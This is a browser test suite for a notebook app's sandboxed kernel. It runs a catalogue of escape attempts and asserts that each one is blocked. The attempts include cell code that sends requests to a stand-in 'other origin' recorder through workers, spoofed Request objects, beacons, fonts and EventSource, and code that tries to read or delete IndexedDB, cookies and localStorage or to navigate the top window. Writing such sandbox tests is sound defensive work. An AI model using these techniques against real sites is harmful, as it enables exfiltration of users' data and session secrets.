/**
 * The notebook kernel against the walkthrough of an attacker: cell code that tries to reach another origin, the
 * site's storage, the page or the top window after one press of Run. Every attack runs as cell code in headless
 * Chromium while a second local HTTP server (another port of 127.0.0.1, so another origin) records every request
 * it receives; it answers with permissive CORS, so an exfiltration that gets out really succeeds. A control
 * request from a blank page of the same browser proves that the recorder is reachable: if a cell's attempt does not arrive, it was stopped.
 *
 * The pages here are opened WITHOUT the harness's `context.route` (which would abort foreign requests and hide a
 * leak; routes do not see worker requests anyway).
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { useSite } from './useSite';
import { cell, hydrated, setCode, watchLongTasks } from './cells';

const site = useSite();
const PAGE = '/notebook/?backend=wasm';

/** The other origin: records every request; CORS open to everyone, so a request that gets out succeeds. */
interface Recorder { url: string; requests: string[]; close(): Promise<void> }
async function startRecorder(): Promise<Recorder> {
  const requests: string[] = [];
  const server: Server = createServer((req: IncomingMessage, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.setHeader('Access-Control-Allow-Methods', '*');
    res.setHeader('Access-Control-Allow-Headers', '*');
    res.setHeader('Access-Control-Allow-Private-Network', 'true');
    res.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    if (req.method === 'OPTIONS') return void res.writeHead(204).end();
    if (/\.m?js(\?|$)/.test(req.url ?? '')) {
      res.writeHead(200, { 'Content-Type': 'text/javascript' });
      return void res.end("export default 'LEAKED-MODULE';");
    }
    if (/event/.test(req.url ?? '')) {
      res.writeHead(200, { 'Content-Type': 'text/event-stream' });
      return void res.end('data: LEAKED\n\n');
    }
    res.writeHead(200, { 'Content-Type': 'text/plain' });
    res.end('LEAKED');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, requests, close: () => new Promise((done) => server.close(() => done())) };
}

let runs = 0;
/**
 * Run the scratch cell with `code` (one press of Run) and wait until this run finished, failed or was stopped; its
 * output. The cell first prints a marker of this run, so a result left from the previous run is never mistaken for it.
 */
async function runCell(page: Page, code: string): Promise<string> {
  const marker = `RUN-${++runs}-START`;
  await setCode(page, 'scratch', `console.log('${marker}');\n${code}`);
  await page.locator(`${cell('scratch')} button.run`).click();
  await page.locator(`${cell('scratch')} [data-testid="output"]`, { hasText: marker }).waitFor({ timeout: 120_000 });
  await page.locator(`${cell('scratch')} [data-testid="done"], ${cell('scratch')} [data-testid="error"], ${cell('scratch')} [data-testid="stopped"]`).first().waitFor({ timeout: 120_000 });
  return page.locator(`${cell('scratch')} [data-testid="output"]`).innerText();
}

/**
 * Each attack: cell code (with OTHER standing for the recorder's origin) that tries to make the recorder receive a
 * request whose path starts with /leak/<name>, and waits (inside the kernel) until its attempt has settled.
 */
const settle = "const settle = (p: any, ms = 3000) => Promise.race([Promise.resolve(p).then((v: any) => 'got ' + String(v).slice(0, 40), (e: any) => 'refused: ' + String(e && e.message || e).slice(0, 120)), sleep(ms).then(() => 'no answer')]);";
/** A script a nested worker runs: fetch the recorder, say how it went. */
const workerScript = (name: string) => `fetch(OTHER + '/leak/${name}').then(r => r.text()).then(t => postMessage('got ' + t), e => postMessage('refused: ' + e.message))`;
const nested = (name: string, make: string) =>
  [
    settle,
    `const src = "const OTHER = " + JSON.stringify(OTHER) + ";\\n" + ${JSON.stringify(workerScript(name))};`,
    'let w: any;',
    `const answer = new Promise((resolve) => { try { w = ${make}; w.onmessage = (e: any) => resolve(e.data); w.onerror = (e: any) => resolve('worker error: ' + (e.message || 'blocked')); } catch (e: any) { resolve('refused: ' + e.message); } });`,
    `console.log('${name}:', await settle(answer));`,
    'w?.terminate?.();',
  ].join('\n');

const ATTACKS: { name: string; code: string }[] = [
  { name: 'dynamic-import', code: `${settle}\nconsole.log('dynamic-import:', await settle(import(OTHER + '/leak/dynamic-import.js')));` },
  { name: 'worker-blob', code: nested('worker-blob', 'new Worker(URL.createObjectURL(new Blob([src], { type: "text/javascript" })))') },
  { name: 'worker-data', code: nested('worker-data', 'new Worker("data:text/javascript," + encodeURIComponent(src))') },
  { name: 'worker-module', code: nested('worker-module', 'new Worker(URL.createObjectURL(new Blob([src], { type: "text/javascript" })), { type: "module" })') },
  {
    name: 'request-url-getter',
    code: `${settle}\nconst r = new Request(OTHER + '/leak/request-url-getter');\nObject.defineProperty(r, 'url', { get: () => location.origin + '/' });\nconsole.log('request-url-getter:', await settle(fetch(r)));`,
  },
  {
    name: 'request-subclass',
    code: `${settle}\nclass R extends Request { get url() { return location.origin + '/'; } }\nconsole.log('request-subclass:', await settle(fetch(new R(OTHER + '/leak/request-subclass'))));`,
  },
  {
    name: 'tostring-switch',
    code: `${settle}\nlet calls = 0;\nconst u = { toString: () => (calls++ === 0 ? location.origin + '/' : OTHER + '/leak/tostring-switch') };\nconsole.log('tostring-switch:', await settle(fetch(u as any)));`,
  },
  { name: 'caches-add', code: `${settle}\nconsole.log('caches-add:', await settle((async () => (await caches.open('x')).add(OTHER + '/leak/caches-add'))()));` },
  {
    name: 'fontface',
    code: `${settle}\nconsole.log('fontface:', await settle((async () => { const f = new FontFace('leak', 'url(' + OTHER + '/leak/fontface)'); (self as any).fonts?.add(f); return f.load(); })()));`,
  },
  {
    name: 'fetch-prototype',
    code: [
      settle,
      'let found: any = null;',
      "for (let o = Object.getPrototypeOf(self); o && !found; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, 'fetch'); if (d && typeof d.value === 'function') found = d.value; }",
      "const direct = Object.getOwnPropertyDescriptor(self, 'fetch');",
      "console.log('fetch-prototype:', found ? await settle(found.call(self, OTHER + '/leak/fetch-prototype')) : 'no fetch on the prototype chain', await settle((direct?.value ?? self.fetch).call(self, OTHER + '/leak/fetch-prototype-own')));",
    ].join('\n'),
  },
  {
    name: 'tfjs-wasm-path',
    code: `${settle}\nconsole.log('tfjs-wasm-path:', await settle(tf.env().platform.fetch(OTHER + '/leak/tfjs-wasm-path/tfjs-backend-wasm.wasm')), await settle((tf as any).util.fetch(OTHER + '/leak/tfjs-util-fetch')));`,
  },
  { name: 'beacon', code: `${settle}\nconst nav: any = navigator;\nconsole.log('beacon:', typeof nav.sendBeacon === 'function' ? String(nav.sendBeacon(OTHER + '/leak/beacon', 'x')) : 'no sendBeacon');\nawait sleep(500);` },
  {
    name: 'webtransport',
    code: `${settle}\nconst WT: any = (self as any).WebTransport;\nconsole.log('webtransport:', WT ? await settle((async () => { const t = new WT(OTHER.replace('http:', 'https:') + '/leak/webtransport'); return t.ready; })()) : 'no WebTransport');`,
  },
  {
    name: 'eventsource',
    code: [
      settle,
      'let ES: any = (self as any).EventSource;',
      "for (let o: any = self; o && !ES; o = Object.getPrototypeOf(o)) ES = Object.getOwnPropertyDescriptor(o, 'EventSource')?.value;",
      "if (!ES) { try { ES = (globalThis as any).constructor?.prototype?.EventSource ?? Object.getPrototypeOf(new MessageChannel().port1).constructor.constructor('return this')().EventSource; } catch {} }",
      "const viaWorker = new Promise((resolve) => { try { const w = new Worker(URL.createObjectURL(new Blob(['const s = new EventSource(' + JSON.stringify(OTHER + '/leak/eventsource-worker') + '); s.onmessage = (e) => postMessage(\"got \" + e.data); s.onerror = () => postMessage(\"refused\");']))); w.onmessage = (e) => resolve(e.data); w.onerror = () => resolve('worker refused'); } catch (e: any) { resolve('refused: ' + e.message); } });",
      "const direct = ES ? new Promise((resolve) => { try { const s = new ES(OTHER + '/leak/eventsource'); s.onmessage = (e: any) => { resolve('got ' + e.data); s.close(); }; s.onerror = () => { resolve('refused'); s.close(); }; } catch (e: any) { resolve('refused: ' + e.message); } }) : 'no EventSource';",
      "console.log('eventsource:', await settle(direct), await settle(viaWorker));",
    ].join('\n'),
  },
];

describe('reader code cannot reach another origin, the site’s storage or the page', () => {
  let recorder: Recorder;
  let context: BrowserContext;
  let page: Page;
  const pageErrors: string[] = [];
  beforeAll(async () => {
    recorder = await startRecorder();
    // No context.route here: it would abort a leak before it reached the recorder (see the module comment).
    context = await site.browser.newContext({ viewport: { width: 1280, height: 900 } });
    page = await context.newPage();
    page.on('pageerror', (e) => pageErrors.push(String(e)));
    await page.goto(site.url + PAGE + '#scratch');
    await hydrated(page, 'scratch');
  });
  afterAll(async () => {
    await context?.close();
    await recorder?.close();
  });

  const leaks = () => recorder.requests.filter((r) => / \/leak\//.test(r));

  it('the recorder on the other origin is reachable from this browser (control)', async () => {
    // From a blank page of the same context: the site's pages themselves refuse other origins by their own policy
    // (connect-src 'self'), which is not what this suite tests; the kernel frame has a policy of its own.
    const blank = await page.context().newPage();
    try {
      const answer = await blank.evaluate((other) => fetch(other + '/control').then((r) => r.text()), recorder.url);
      expect(answer).toBe('LEAKED');
      expect(recorder.requests).toContain('GET /control');
    } finally {
      await blank.close();
    }
  });

  it('runs cells in an invisible frame of opaque origin whose fetch reads the site’s model files and nothing else', async () => {
    const text = await runCell(
      page,
      [
        "console.log('origin:', self.origin);",
        "const model = await (await fetch('/models/unet-mnist/model.json')).json();",
        "console.log('model read:', typeof model === 'object' && Object.keys(model).length > 0);",
        "try { await fetch('/notebook/'); console.log('page: fetched'); } catch (e: any) { console.log('page:', e.message); }",
      ].join('\n'),
    );
    expect(text).toContain('origin: null');
    expect(text).toContain('model read: true');
    expect(text).toMatch(/page: the notebook only loads this site's model and data files \(models\/…, data\/mnist\.bin\.gz\), not /);
    const frame = page.locator('iframe[data-kernel-frame]');
    expect(await frame.count()).toBe(1);
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts'); // no service worker controls this page
    expect(await frame.getAttribute('aria-hidden')).toBe('true');
    expect(await frame.getAttribute('tabindex')).toBe('-1');
    expect(await frame.isVisible()).toBe(false);
  });

  for (const attack of ATTACKS) {
    it(`stops ${attack.name}`, async () => {
      const text = await runCell(page, `const OTHER = ${JSON.stringify(recorder.url)};\n${attack.code}`);
      expect(text).toContain(`${attack.name}:`); // the attack ran to the end (it did not fail before trying)
      expect(leaks().filter((r) => r.includes(`/leak/${attack.name}`))).toEqual([]);
      expect(text).not.toMatch(/got LEAKED/);
    });
  }

  it('ignores messages a cell posts as the kernel, to the page or to the frame', async () => {
    const spoof = [
      'const g: any = self;',
      'for (let id = 1; id <= 200; id++) {',
      "  g.postMessage({ type: 'output', id, item: { kind: 'log', level: 'log', text: 'FAKE output' } });",
      "  g.postMessage({ type: 'done', id, ms: 1, newTensors: 0, numTensors: 0 });",
      '}',
      "g.postMessage({ type: 'not-sandboxed' });",
      "g.postMessage({ type: 'init', code: new Blob(['postMessage(1)']) });",
      "try { g.parent?.postMessage({ type: 'output', id: 1, item: { kind: 'log', level: 'log', text: 'FAKE parent' } }, '*'); } catch {}",
      "try { g.top?.postMessage({ type: 'not-sandboxed' }, '*'); } catch {}",
      'await sleep(300);',
      "console.log('spoofed');",
    ].join('\n');
    const text = await runCell(page, spoof);
    expect(text).toContain('spoofed');
    expect(text).not.toContain('FAKE');
    // The kernel still answers, with its variables.
    expect(await runCell(page, 'const kept = 6 * 7;\nconsole.log("still", kept)')).toContain('still 42');
    expect(await runCell(page, 'console.log("kept is", kept)')).toContain('kept is 42');
    expect(pageErrors).toEqual([]);
  });

  it('cannot read or delete the training lab’s saved checkpoint, the site’s cookies or its localStorage', async () => {
    // A checkpoint as src/workers/checkpointStore.ts saves it (database diffusion-lab v1, store checkpoints, key training-lab).
    const stored = await page.evaluate(async () => {
      const db: IDBDatabase = await new Promise((resolve, reject) => {
        const req = indexedDB.open('diffusion-lab', 1);
        req.onupgradeneeded = () => req.result.createObjectStore('checkpoints');
        req.onsuccess = () => resolve(req.result);
        req.onerror = () => reject(req.error);
      });
      await new Promise<void>((resolve, reject) => {
        const tx = db.transaction('checkpoints', 'readwrite');
        tx.objectStore('checkpoints').put({ bytes: new Uint8Array([1, 2, 3, 4]), step: 1234, savedAt: '2026-01-01T00:00:00.000Z' }, 'training-lab');
        tx.oncomplete = () => resolve();
        tx.onerror = () => reject(tx.error);
      });
      db.close();
      document.cookie = 'secret=COOKIE-SECRET; path=/';
      localStorage.setItem('secret', 'STORAGE-SECRET');
      return true;
    });
    expect(stored).toBe(true);
    const code = [
      settle,
      'const g: any = self;',
      "const idb = (async () => { const db: any = await new Promise((res, rej) => { const r = indexedDB.open('diffusion-lab'); r.onsuccess = () => res(r.result); r.onerror = () => rej(r.error); r.onupgradeneeded = () => {}; }); const names = Array.from(db.objectStoreNames).join(','); try { const tx = db.transaction('checkpoints', 'readwrite'); const v: any = await new Promise((res) => { const q = tx.objectStore('checkpoints').get('training-lab'); q.onsuccess = () => res(q.result); q.onerror = () => res(null); }); tx.objectStore('checkpoints').clear(); return 'opened ' + names + ' step ' + (v && v.step); } finally { db.close(); } })();",
      "console.log('indexeddb:', await settle(idb));",
      "console.log('delete:', await settle(new Promise((res, rej) => { const r = indexedDB.deleteDatabase('diffusion-lab'); r.onsuccess = () => res('deleted'); r.onerror = () => rej(r.error); r.onblocked = () => res('blocked'); })));",
      "console.log('cookie:', String(g.document?.cookie), 'storage:', String((() => { try { return g.localStorage?.getItem('secret'); } catch (e: any) { return e.message; } })()));",
    ].join('\n');
    const text = await runCell(page, code);
    expect(text).toContain('cookie:');
    expect(text).not.toContain('step 1234');
    expect(text).not.toContain('COOKIE-SECRET');
    expect(text).not.toContain('STORAGE-SECRET');
    const after = await page.evaluate(async () => {
      const db: IDBDatabase = await new Promise((resolve, reject) => {
        const req = indexedDB.open('diffusion-lab', 1);
        req.onupgradeneeded = () => req.result.createObjectStore('checkpoints');
        req.onsuccess = () => resolve(req.result);
        req.onerror = () => reject(req.error);
      });
      const v = await new Promise<{ bytes: Uint8Array; step: number } | undefined>((resolve) => {
        const q = db.transaction('checkpoints').objectStore('checkpoints').get('training-lab');
        q.onsuccess = () => resolve(q.result);
        q.onerror = () => resolve(undefined);
      });
      db.close();
      return v ? { step: v.step, bytes: Array.from(v.bytes) } : null;
    });
    expect(after).toEqual({ step: 1234, bytes: [1, 2, 3, 4] });
  });

  it('cannot flood the page with output: no long task, and the kernel keeps working', async () => {
    await watchLongTasks(page);
    const flood = [
      'const g: any = self;',
      "const big = 'x'.repeat(100_000);",
      'for (let i = 0; i < 100_000; i++) console.log(i, big.slice(0, 50));',
      'for (let i = 0; i < 2_000; i++) g.postMessage({ type: "output", id: 1, item: { kind: "log", level: "log", text: big } });',
      'for (let i = 0; i < 300; i++) show(big);',
      "console.log('flooded');",
    ].join('\n');
    const text = await runCell(page, flood);
    expect(text).toMatch(/output (stopped|truncated)/);
    expect((text.match(/xxxxxxxxxx/g) ?? []).length).toBeLessThan(1000);
    const longTasks = await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks);
    expect(longTasks.filter((d) => d > 200)).toEqual([]);
    expect(await runCell(page, 'console.log("after flood", 1 + 1)')).toContain('after flood 2');
  });

  it('cannot navigate the top window or open windows', async () => {
    const code = [
      'const g: any = self;',
      "const tries: string[] = [];",
      "try { g.top.location = OTHER + '/leak/top'; tries.push('top assigned'); } catch (e: any) { tries.push('top: ' + e.message); }",
      "try { g.parent.location.href = OTHER + '/leak/parent'; tries.push('parent assigned'); } catch (e: any) { tries.push('parent: ' + e.message); }",
      "try { const w = g.open(OTHER + '/leak/open'); tries.push('open: ' + String(w)); } catch (e: any) { tries.push('open: ' + e.message); }",
      "try { g.location.href = OTHER + '/leak/location'; tries.push('location assigned'); } catch (e: any) { tries.push('location: ' + e.message); }",
      'await sleep(1000);',
      "console.log('navigation:', tries.join(' | '));",
    ].join('\n');
    // The fragment changes as code is typed (edited cells travel there); the document must stay the same.
    const documentUrl = () => page.url().split('#')[0];
    const before = documentUrl();
    const pagesBefore = context.pages().length;
    const text = await runCell(page, `const OTHER = ${JSON.stringify(recorder.url)};\n${code}`);
    expect(text).toContain('navigation:');
    expect(documentUrl()).toBe(before);
    expect(await page.locator(cell('scratch')).count()).toBe(1);
    expect(context.pages()).toHaveLength(pagesBefore);
    expect(leaks().filter((r) => /\/leak\/(top|parent|open|location)/.test(r))).toEqual([]);
  });

  it('let nothing through to the other origin in all (every request the recorder saw)', () => {
    expect(leaks()).toEqual([]);
    expect(recorder.requests.filter((r) => r !== 'GET /control')).toEqual([]);
    expect(pageErrors).toEqual([]);
  });
});
